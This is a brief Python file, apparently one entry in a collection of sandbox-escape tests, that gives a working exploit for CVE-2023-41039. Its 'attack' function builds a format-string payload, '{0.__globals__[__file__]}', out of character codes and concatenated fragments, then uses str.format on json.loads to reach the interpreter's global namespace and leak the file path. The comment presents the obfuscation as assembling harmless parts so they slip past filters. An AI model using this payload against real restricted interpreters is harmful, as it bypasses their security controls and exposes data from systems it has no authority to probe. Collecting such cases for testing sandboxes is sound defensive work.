# A text that is made at run time, of parts that are harmless.
# after: interpreter
# source: CVE-2023-41039 (GHSA-xjw2-6jm9-rf67)
import json
def attack(**_):
    text = "".join(map(chr, [123, 48, 46])) + "_" * 2 + "globals" + "_" * 2 + "[" + "_" * 2 + "file" + "_" * 2 + "]}"
    return {"text": text.format(json.loads)}
